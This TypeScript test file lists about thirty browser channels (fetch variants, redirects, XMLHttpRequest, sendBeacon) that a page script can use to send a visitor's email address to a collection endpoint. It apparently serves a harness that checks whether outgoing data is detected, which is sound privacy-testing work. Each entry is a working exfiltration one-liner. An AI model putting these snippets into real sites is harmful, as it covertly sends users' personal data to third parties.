import type { ChannelCase } from '../channel-case.ts';

const NO_STREAMS = { firefox: 'absent' } as const;

/** What scripts send themselves: fetch, XMLHttpRequest, beacons. */
export const SCRIPTED: readonly ChannelCase[] = [
  { id: 'fetch-address', what: 'fetch, in the address', act: `await fetch(U + '/c?e=' + encodeURIComponent(E));` },
  { id: 'fetch-text', what: 'fetch, text', act: `await fetch(U + '/c', { method: 'POST', body: E });` },
  { id: 'fetch-json', what: 'fetch, JSON with preflight', act: `await fetch(U + '/c', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: E }) });` },
  { id: 'fetch-header', what: 'fetch, in a header', act: `await fetch(U + '/c', { headers: { 'x-visitor': E } });` },
  { id: 'fetch-params', what: 'fetch, URLSearchParams', act: `await fetch(U + '/c', { method: 'POST', body: new URLSearchParams({ email: E }) });` },
  { id: 'fetch-form', what: 'fetch, FormData', act: `const f = new FormData(); f.append('email', E); await fetch(U + '/c', { method: 'POST', body: f });` },
  { id: 'fetch-file', what: 'fetch, file in FormData', act: `const f = new FormData(); f.append('file', new File(['email=' + E], 'a.txt', { type: 'text/plain' })); await fetch(U + '/c', { method: 'POST', body: f });` },
  { id: 'fetch-blob', what: 'fetch, Blob', act: `await fetch(U + '/c', { method: 'POST', body: new Blob([E]) });` },
  { id: 'fetch-buffer', what: 'fetch, ArrayBuffer', act: `await fetch(U + '/c', { method: 'POST', body: new TextEncoder().encode(E).buffer });` },
  { id: 'fetch-view', what: 'fetch, DataView', act: `const b = new TextEncoder().encode('xx' + E); await fetch(U + '/c', { method: 'POST', body: new DataView(b.buffer, 2) });` },
  { id: 'fetch-gzip', what: 'fetch, gzip bytes', act: `const b = await new Response(new Blob([E]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer(); await fetch(U + '/c', { method: 'POST', body: b });` },
  { id: 'fetch-stream', what: 'fetch, ReadableStream', act: `await fetch(U + '/c', { method: 'POST', duplex: 'half', body: new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode(E)); c.close(); } }) });`, sees: NO_STREAMS },
  { id: 'fetch-request', what: 'fetch, Request with a text', act: `await fetch(new Request(U + '/c', { method: 'POST', body: E }));` },
  { id: 'fetch-request-blob', what: 'fetch, Request with a Blob', act: `await fetch(new Request(U + '/c', { method: 'POST', body: new Blob([E]) }));` },
  { id: 'fetch-keepalive', what: 'fetch, keepalive', act: `await fetch(U + '/c', { method: 'POST', body: E, keepalive: true });` },
  { id: 'fetch-no-cors', what: 'fetch, no-cors', act: `await fetch(U + '/c', { method: 'POST', body: E, mode: 'no-cors' });` },
  { id: 'fetch-later', what: 'fetchLater', act: `fetchLater(U + '/c', { method: 'POST', body: E, activateAfter: 0 });`, sees: { firefox: 'absent' } },
  { id: 'fetch-redirected', what: 'redirect, first hop', act: `await fetch(U + '/redirect?e=' + encodeURIComponent(E) + '&to=' + encodeURIComponent('https://in.fetch-redirect-end.test/c'));` },
  { id: 'fetch-redirect-end', what: 'redirect, second hop', act: '' },
  { id: 'xhr-text', what: 'XMLHttpRequest, text', act: `await xhr(U, E);` },
  { id: 'xhr-blob', what: 'XMLHttpRequest, Blob', act: `await xhr(U, new Blob([E]));` },
  { id: 'xhr-form', what: 'XMLHttpRequest, FormData', act: `const f = new FormData(); f.append('email', E); await xhr(U, f);` },
  { id: 'xhr-document', what: 'XMLHttpRequest, Document', act: `const d = document.implementation.createHTMLDocument(E); await xhr(U, d);` },
  { id: 'xhr-synchronous', what: 'XMLHttpRequest, synchronous', act: `const x = new XMLHttpRequest(); x.open('POST', U + '/c', false); x.send(E);` },
  { id: 'beacon-text', what: 'sendBeacon, text', act: `navigator.sendBeacon(U + '/c', E);` },
  { id: 'beacon-blob', what: 'sendBeacon, Blob', act: `navigator.sendBeacon(U + '/c', new Blob([E], { type: 'text/plain' }));` },
  { id: 'beacon-form', what: 'sendBeacon, FormData', act: `const f = new FormData(); f.append('email', E); navigator.sendBeacon(U + '/c', f);` },
  { id: 'beacon-params', what: 'sendBeacon, URLSearchParams', act: `navigator.sendBeacon(U + '/c', new URLSearchParams({ email: E }));` },
  { id: 'beacon-buffer', what: 'sendBeacon, ArrayBuffer', act: `navigator.sendBeacon(U + '/c', new TextEncoder().encode(E).buffer);` },
  { id: 'beacon-empty', what: 'sendBeacon, address only', act: `navigator.sendBeacon(U + '/c?e=' + encodeURIComponent(E));` },
];
